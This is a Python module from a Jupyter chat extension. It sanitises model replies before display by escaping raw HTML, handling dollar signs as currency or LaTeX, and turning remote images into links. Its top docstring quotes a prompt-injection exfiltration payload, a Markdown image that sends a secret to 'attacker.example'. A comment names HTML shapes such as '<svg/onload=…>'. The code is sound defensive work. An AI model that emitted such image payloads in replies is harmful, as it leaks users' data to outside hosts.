"""The Markdown ipychat hands to the front end: dollar signs, code, raw HTML and images.

JupyterLab typesets `$…$` in Markdown output as LaTeX, renders the raw HTML of outputs the
user produced (they are trusted), and fetches every image a Markdown output names. So:

- ipychat's own lines (footers, usage, budgets, estimates, map summaries) go through
  `escape_dollars`: every `$` outside code shows as written ("spent $0.0003 of $0.01").
- Model replies, and prompts shown back, go through `reply_markdown`: currency (`$` before a
  digit) shows as written while real LaTeX (`$x^2$`, `$$…$$`, `\\(…\\)`) is kept, the rule
  chat UIs use; raw HTML shows as text (a few attribute-free formatting tags excepted);
  remote images become links unless `allow_remote_images(True)` (a prompt-injected
  `![x](https://attacker.example/?d=SECRET)` would otherwise be fetched the moment the reply
  is shown); an unclosed code fence is closed, so it cannot swallow what follows.

Nothing inside code spans or fenced/indented code blocks is ever changed (where code is:
`ipychat.core.mdcode`).
Pure: standard library only, no I/O.
"""

from __future__ import annotations

import html
import re
import threading
from collections.abc import Callable
from urllib.parse import urlsplit

from ipychat.core.mdcode import (
    BLANK_LINE,
    CodeMap,
    close_fences,
    code_regions,
    fenced,
    is_escaped,
)
from ipychat.core.messages import parts_text

__all__ = [
    "LITERAL_DOLLAR",
    "allow_remote_images",
    "close_fences",
    "code_regions",
    "escape_dollars",
    "fenced",
    "history_markdown",
    "prompt_markdown",
    "remote_images_allowed",
    "reply_markdown",
    "turn_markdown",
]

_policy_lock = threading.Lock()
_remote_images = False


def allow_remote_images(allow: bool) -> None:
    """Show remote images in replies (`%config ChatMagics.allow_remote_images = True`).

    Off by default: a reply is text the model wrote, possibly steered by a prompt injection,
    and showing an image means the browser requests its URL (and whatever data it carries).
    """
    global _remote_images
    with _policy_lock:
        _remote_images = bool(allow)


def remote_images_allowed() -> bool:
    return _remote_images


# ----- dollar signs ---------------------------------------------------------------------------


# How a `$` is shown as written. JupyterLab 4 renders Markdown output in three steps: it
# sets `$…$` aside from the Markdown parser (its own splitter, which skips `\$`), parses the
# rest (which turns `\$` into `$`), then MathJax typesets the page's text, pairing any two
# `$` it finds. So a plain `\$` is typeset anyway (seen in the browser test); a `\$` inside
# its own element is not: MathJax does not pair a `$` across element boundaries. Other
# CommonMark renderers (nbconvert, GitHub) show the same thing: a `$`.
LITERAL_DOLLAR = "<span>\\$</span>"


# An amount as ipychat writes it (pricing.format_usd): `$0.00028`, `$1,234.50`, `$5e-05`.
_AMOUNT = re.compile(r"\$\d[\d,]*(?:\.\d+)?(?:e[-+]?\d+)?")


def escape_dollars(text: str) -> str:
    """ipychat's own Markdown: every `$` outside code is shown as written.

    Amounts go into code spans, like the footers: they read the same in JupyterLab and in a
    Markdown export read as text (`jupyter nbconvert --to markdown`). Any other `$` (a system
    prompt shown back, say) becomes LITERAL_DOLLAR.
    """
    code = CodeMap(text)
    out, last = [], 0
    for m in _AMOUNT.finditer(text):
        if code.contains(m.start()) or is_escaped(text, m.start()):
            continue
        out.append(text[last : m.start()])
        out.append(f"`{m.group()}`")
        last = m.end()
    out.append(text[last:])
    text = "".join(out)
    code = CodeMap(text)
    return _literal_dollars(
        text, [i for i, c in enumerate(text) if c == "$" and not code.contains(i)]
    )


def _literal_dollars(text: str, positions: list[int]) -> str:
    """`text` with the `$` (or `\\$`) at each position replaced by LITERAL_DOLLAR."""
    if not positions:
        return text
    out, last = [], 0
    for pos in positions:
        start = pos - 1 if is_escaped(text, pos) else pos
        out.append(text[last:start])
        out.append(LITERAL_DOLLAR)
        last = pos + 1
    out.append(text[last:])
    return "".join(out)


_CURRENCY = re.compile(r"\$(?=\.?\d)")


def _currency(text: str) -> str:
    """Show the `$` of currency as written; keep LaTeX.

    A `$` before a digit ("$1,200", "$.50") is currency unless it opens inline math that
    closes on a `$` which, as in Pandoc's rule, follows a non-space character, is not
    followed by a digit and comes before the paragraph ends with no other `$` between:
    `$2^n$` stays math; "$1,200 in January to $1,850" does not pair (the second `$` follows a
    space), so both show as written. `$$…$$` display math is kept whole. A `\\$` the model
    escaped itself is meant as text, and shown as such.
    """
    code = CodeMap(text)
    every = [i for i, c in enumerate(text) if c == "$" and not code.contains(i)]
    dollars = [i for i in every if not is_escaped(text, i)]
    literal: list[int] = []
    math: list[tuple[int, int]] = []
    i = 0
    while i < len(dollars):
        pos = dollars[i]
        if i + 1 < len(dollars) and dollars[i + 1] == pos + 1:  # `$$`: display math
            j = i + 2
            while j + 1 < len(dollars) and dollars[j + 1] != dollars[j] + 1:
                j += 1
            closed = j + 1 < len(dollars) and not BLANK_LINE.search(text, pos, dollars[j])
            if closed:
                math.append((pos, dollars[j + 1]))
            i = j + 2 if closed else i + 2  # the whole block, or just an unclosed `$$`
            continue
        if i + 1 < len(dollars) and _closes(text, pos, dollars[i + 1]):
            math.append((pos, dollars[i + 1]))
            i += 2  # a math span (whatever its first character): both dollars stay
            continue
        if _CURRENCY.match(text, pos):
            literal.append(pos)
        i += 1
    escaped = [i for i in every if is_escaped(text, i) and not any(a < i < b for a, b in math)]
    return _literal_dollars(text, sorted(literal + escaped))


def _closes(text: str, start: int, end: int) -> bool:
    """Whether the `$` at `end` closes inline math opened by the `$` at `start`."""
    if end + 1 < len(text) and text[end + 1] == "$":
        return False  # the start of `$$`
    if text[start + 1].isspace():  # start < end: text[start + 1] exists
        return False
    if text[end - 1].isspace() or (end + 1 < len(text) and text[end + 1].isdigit()):
        return False
    return BLANK_LINE.search(text, start, end) is None


# ----- raw HTML and images --------------------------------------------------------------------

# CommonMark's raw HTML (6.6): open and closing tags, comments, processing instructions,
# declarations and CDATA.
_ATTRIBUTE = r"""\s+[A-Za-z_:][\w.:-]*(?:\s*=\s*(?:[^\s"'=<>`]+|'[^']*'|"[^"]*"))?"""
_HTML = re.compile(
    rf"<!--.*?-->|<\?.*?\?>|<![A-Za-z][^>]*>|<!\[CDATA\[.*?\]\]>"
    rf"|<(?P<close>/)?(?P<tag>[A-Za-z][A-Za-z0-9-]*)(?P<attrs>(?:{_ATTRIBUTE})*)\s*/?>"
    # Not CommonMark HTML, but a browser's: `<img/src=…>`, `<svg/onload=…>`.
    r"|<[A-Za-z][A-Za-z0-9-]*/[^<>]+>",
    re.S,
)
_ATTR_VALUE = re.compile(r"""([A-Za-z_:][\w.:-]*)(?:\s*=\s*([^\s"'=<>`]+|'[^']*'|"[^"]*"))?""")
# Tags that only format text: shown as HTML when written without attributes.
_FORMATTING_TAGS = frozenset(
    {
        *("b", "i", "em", "strong", "u", "s", "del", "ins", "sub", "sup", "br", "hr", "p"),
        *("small", "mark", "kbd", "code", "pre", "q", "blockquote", "details", "summary"),
        *("ul", "ol", "li", "dl", "dt", "dd", "table", "thead", "tbody", "tr", "th", "td"),
        *("h1", "h2", "h3", "h4", "h5", "h6"),
    }
)


def _is_remote(url: str) -> bool:
    """Whether loading `url` as an image would leave the notebook server: anything with a
    scheme but `data:image/…` and `attachment:`, and scheme-relative `//host/…`."""
    target = html.unescape(url).strip().strip("<>").strip()
    target = re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", target)  # Markdown's backslash escapes
    target = "".join(ch for ch in target if ch >= " " and ch != "\x7f").replace("\\", "/")
    lowered = target.lower()
    if lowered.startswith("//"):
        return True
    scheme = re.match(r"([a-z][a-z0-9+.-]*):", lowered)
    if scheme is None:
        return False  # a path on the notebook server (same origin)
    if scheme.group(1) == "data":
        return not lowered.startswith("data:image/")
    return scheme.group(1) != "attachment"


def _host(url: str) -> str:
    """The host a remote URL names, or "" (a `data:` URL names none, nor does a local path:
    the `src` of an `<img>` whose `srcset` is remote)."""
    try:
        target = html.unescape(url).strip().strip("<>").replace("\\", "/")
        return urlsplit(target).hostname or ""
    except ValueError:
        return ""


def _link_label(alt: str, url: str) -> str:
    host = _host(url)
    alt = alt.strip()
    label = f"image: {alt}" if alt else "image"
    return f"{label} ({host})" if host else label


def _html(text: str, allow_images: bool) -> str:
    """Raw HTML shown as text, except attribute-free formatting tags; `<img>` as Markdown."""
    code = CodeMap(text)
    out, last = [], 0
    for m in _HTML.finditer(text):
        if code.contains(m.start()):
            continue
        out.append(text[last : m.start()])
        last = m.end()
        tag = (m["tag"] or "").lower()
        if tag in _FORMATTING_TAGS and not (m["attrs"] or "").strip():
            out.append(m.group())
        elif tag == "img" and not m["close"]:
            out.append(_img_markdown(m["attrs"] or "", allow_images) or html.escape(m.group()))
        else:
            out.append(html.escape(m.group(), quote=False))
    out.append(text[last:])
    return "".join(out)


def _img_markdown(attrs: str, allow_images: bool) -> str | None:
    """An `<img>` tag as a Markdown image (src and alt only), or a link if it is remote."""
    values: dict[str, str] = {}
    for name, value in _ATTR_VALUE.findall(attrs):
        values[name.lower()] = html.unescape(value.strip("'\"")) if value else ""
    src = values.get("src", "")
    sources = [src] + [
        part.split()[0] for part in values.get("srcset", "").split(",") if part.split()
    ]
    if not src:
        return None
    alt = re.sub(r"[\[\]\n]", " ", values.get("alt", "")).strip()
    destination = "<" + src.replace("<", "%3C").replace(">", "%3E") + ">"
    if not allow_images and any(_is_remote(s) for s in sources if s):
        return f"[{_link_label(alt, src)}]({destination})"
    return f"![{alt}]({destination})"


_DEFINITION = re.compile(
    r"^[ ]{0,3}\[(?P<label>[^\]\n]+)\]:[ \t]*\n?[ \t]*(?P<url><[^>\n]*>|\S+)", re.M
)


def _normalise_label(label: str) -> str:
    return " ".join(label.split()).casefold()


def _images(text: str, allow_images: bool) -> str:
    """Remote Markdown images (inline, full, collapsed and shortcut references) as links."""
    if allow_images or "![" not in text:
        return text
    code = CodeMap(text)
    definitions: dict[str, str] = {}
    for d in _DEFINITION.finditer(text):
        if not code.contains(d.start("label")):
            definitions.setdefault(_normalise_label(d["label"]), d["url"])
    out, last, pos = [], 0, 0
    while True:
        bang = text.find("![", pos)
        if bang < 0:
            break
        pos = bang + 2
        if code.contains(bang) or is_escaped(text, bang):
            continue
        parsed = _parse_image(text, bang, definitions)
        if parsed is None:
            continue
        end, alt, url, rest = parsed
        if not _is_remote(url):
            continue
        out.append(text[last:bang])
        out.append(f"[{_link_label(alt, url)}]{rest}")
        last = pos = end
    out.append(text[last:])
    return "".join(out)


def _parse_image(
    text: str, bang: int, definitions: dict[str, str]
) -> tuple[int, str, str, str] | None:
    """(end, alt, url, the syntax after the alt text) of the image at text[bang], if it is one."""
    close = _matching(text, bang + 1, "[", "]")
    if close is None:
        return None
    alt = text[bang + 2 : close]
    after = close + 1
    if text.startswith("(", after):
        end = _matching(text, after, "(", ")")
        if end is None:
            return None
        inner = text[after + 1 : end].strip()
        url = inner[1 : inner.find(">")] if inner.startswith("<") else (inner.split() or [""])[0]
        return end + 1, alt, url, text[after : end + 1]
    if text.startswith("[", after):
        end = text.find("]", after)
        if end < 0 or "\n\n" in text[after:end]:
            return None
        label = text[after + 1 : end] or alt
        defined = definitions.get(_normalise_label(label))
        return None if defined is None else (end + 1, alt, defined, f"[{label}]")
    defined = definitions.get(_normalise_label(alt))  # shortcut reference `![alt]`
    return None if defined is None else (after, alt, defined, f"[{alt}]")


def _matching(text: str, start: int, opening: str, closing: str) -> int | None:
    """The index of the bracket closing text[start], skipping escaped and nested ones; None
    if the paragraph ends first."""
    depth = 0
    i = start
    while i < len(text):
        ch = text[i]
        if ch == "\\":
            i += 2
            continue
        if ch == opening:
            depth += 1
        elif ch == closing:
            depth -= 1
            if depth == 0:
                return i
        elif ch == "\n" and text.startswith("\n", i + 1):
            return None
        i += 1
    return None


# ----- the two entry points for user-facing text ------------------------------------------------


def reply_markdown(text: str, *, allow_images: bool | None = None) -> str:
    """A model reply as Markdown that shows what was written and fetches nothing remote."""
    allow = remote_images_allowed() if allow_images is None else allow_images
    steps: list[Callable[[str], str]] = [
        lambda t: _images(t, allow),
        lambda t: _html(t, allow),
        _currency,
        close_fences,
    ]
    for step in steps:
        text = step(text)
    return text


def prompt_markdown(text: str, *, allow_images: bool | None = None) -> str:
    """A prompt shown back (panel, `%chat history`): quoted, line breaks kept, and as safe as
    a reply (a prompt can hold pasted or interpolated text)."""
    body = reply_markdown(text, allow_images=allow_images)
    code = CodeMap(body)
    lines, pos = [], 0
    raw = body.split("\n")
    for n, line in enumerate(raw):
        following = raw[n + 1] if n + 1 < len(raw) else ""
        hard_break = line.strip() and following.strip() and not code.contains(pos + len(line))
        lines.append("> " + line + ("  " if hard_break else ""))
        pos += len(line) + 1
    return "\n".join(lines)


def turn_markdown(role: str, content: str) -> str:
    """One message of a thread for `%chat history`: the role on its own line, then the
    message as its own blocks (a reply's list or fence never runs into the label)."""
    body = prompt_markdown(content) if role == "user" else reply_markdown(content)
    return f"**{role}:**\n\n{body or '*(no text)*'}"


def history_markdown(messages: list[dict[str, object]]) -> str:
    """A thread as Markdown, each turn rendered on its own (`turn_markdown`); an image as
    its label (`[image: 640×480]`), never its bytes."""
    return "\n\n".join(
        turn_markdown(str(m["role"]), parts_text(m.get("content"))) for m in messages
    )
